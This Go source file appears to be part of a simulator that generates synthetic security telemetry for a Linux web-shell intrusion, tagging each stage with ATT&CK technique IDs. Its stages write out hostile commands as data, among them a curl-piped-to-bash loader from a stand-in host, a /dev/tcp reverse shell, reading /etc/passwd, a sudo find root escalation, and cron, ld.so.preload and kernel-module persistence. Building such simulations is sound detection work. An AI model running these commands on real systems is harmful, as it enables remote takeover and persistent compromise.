package scenario

var linuxWebShell = attack{
	name:   "linux-web-shell",
	about:  "A script is uploaded to a Linux web server; it fetches more, becomes root, and stays by cron and the loader",
	length: 120,
	begin:  func(s *Scenario, r *running) { r.host = s.fleet.web[1] },
	stages: []stage{
		{name: "web shell written", technique: "T1505.003", repeat: 1, do: func(s *Scenario, r *running) {
			s.serve(r.host, r.ip, "POST", "/upload", 4)
			r.tool = s.linuxBoot(r.host, bootPhp)
			s.pause(10, 60)
			it := event(auditFile, r.host, -1)
			it.proc, it.parent, it.s1, it.m = r.tool, s.linuxBoot(r.host, bootSystemd), "/var/www/html/uploads/status.php", asWeb
			s.put(&it)
		}},
		{name: "commands through the shell", technique: "T1059.004", repeat: 4, after: minutes(1, 6), every: seconds(5, 60), do: func(s *Scenario, r *running) {
			commands := [...]string{"id", "uname -a", "cat /etc/passwd", "ls -la /home"}
			programs := [...]*program{pId, pUname, pCat, pLs}
			words := [...]string{argv("id"), argv("uname", "-a"), argv("cat", "/etc/passwd"), argv("ls", "-la", "/home")}
			s.serve(r.host, r.ip, "POST", "/uploads/status.php", 4)
			s.pause(10, 60)
			sh := s.exec(r.host, -1, &r.tool, pDash, argv("sh", "-c", commands[r.round]), 0, 0, asWeb)
			s.pause(5, 30)
			s.exec(r.host, -1, &sh, programs[r.round], words[r.round], 0, 0, asWeb)
		}},
		{name: "loader piped into a shell", technique: "T1105", repeat: 1, after: minutes(3, 12), do: func(s *Scenario, r *running) {
			s.serve(r.host, r.ip, "POST", "/uploads/status.php", 4)
			s.pause(10, 60)
			r.shell = s.exec(r.host, -1, &r.tool, pDash, argv("sh", "-c", "curl -fsSL http://cdn-sync.example.net/l.sh | bash"), 0, 0, asWeb)
			s.pause(5, 30)
			curl := s.exec(r.host, -1, &r.shell, pCurl, argv("curl", "-fsSL", "http://cdn-sync.example.net/l.sh"), 0, 0, asWeb)
			to := place{placeC2Name, r.ip, 80}
			s.visit(r.host, &curl, &to, "/l.sh", 0, 5)
		}},
		{name: "reverse shell", technique: "T1095", repeat: 1, after: seconds(5, 60), do: func(s *Scenario, r *running) {
			r.shell = s.exec(r.host, -1, &r.shell, pBash, argv("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4443 0>&1"), 0, 0, asWeb)
			s.connect(r.host, &r.shell, "", net3|9, 4443, "", 0)
		}},
		{name: "root by sudo and find", technique: "T1548.003", repeat: 1, after: minutes(2, 10), do: func(s *Scenario, r *running) {
			sudo := s.exec(r.host, -1, &r.shell, pSudo, argv("sudo", "find", "/tmp", "-maxdepth", "0", "-exec", "/bin/sh", ";"), 0, 0, asRoot)
			s.pause(5, 40)
			find := s.exec(r.host, -1, &sudo, pFind, argv("find", "/tmp", "-maxdepth", "0", "-exec", "/bin/sh", ";"), 0, 0, asRoot)
			s.pause(5, 40)
			r.shell = s.exec(r.host, -1, &find, pDash, argv("/bin/sh"), 0, 0, asRoot)
		}},
		{name: "cron entry", technique: "T1053.003", repeat: 1, after: minutes(1, 5), do: func(s *Scenario, r *running) {
			tee := s.exec(r.host, -1, &r.shell, pTee, argv("tee", "/etc/cron.d/sysstat-sync"), 0, 0, asRoot)
			s.pause(1, 20)
			it := event(auditFile, r.host, -1)
			it.proc, it.parent, it.s1, it.m = tee, r.shell, "/etc/cron.d/sysstat-sync", asRoot
			s.put(&it)
		}},
		{name: "loader hijacked", technique: "T1574.006", repeat: 1, after: minutes(1, 5), do: func(s *Scenario, r *running) {
			tee := s.exec(r.host, -1, &r.shell, pTee, argv("tee", "/etc/ld.so.preload"), 0, 0, asRoot)
			s.pause(1, 20)
			it := event(auditFile, r.host, -1)
			it.proc, it.parent, it.s1, it.m = tee, r.shell, "/etc/ld.so.preload", asRoot
			s.put(&it)
		}},
		{name: "kernel module", technique: "T1547.006", repeat: 1, after: minutes(1, 5), do: func(s *Scenario, r *running) {
			helper := s.exec(r.host, -1, &r.shell, pHelper, argv("/var/tmp/.cache/kworkerd"), 0, 0, asRoot)
			s.pause(10, 90)
			it := event(auditModule, r.host, -1)
			it.proc, it.parent, it.s1, it.m = helper, r.shell, "netsync", asRoot
			s.put(&it)
		}},
	},
}
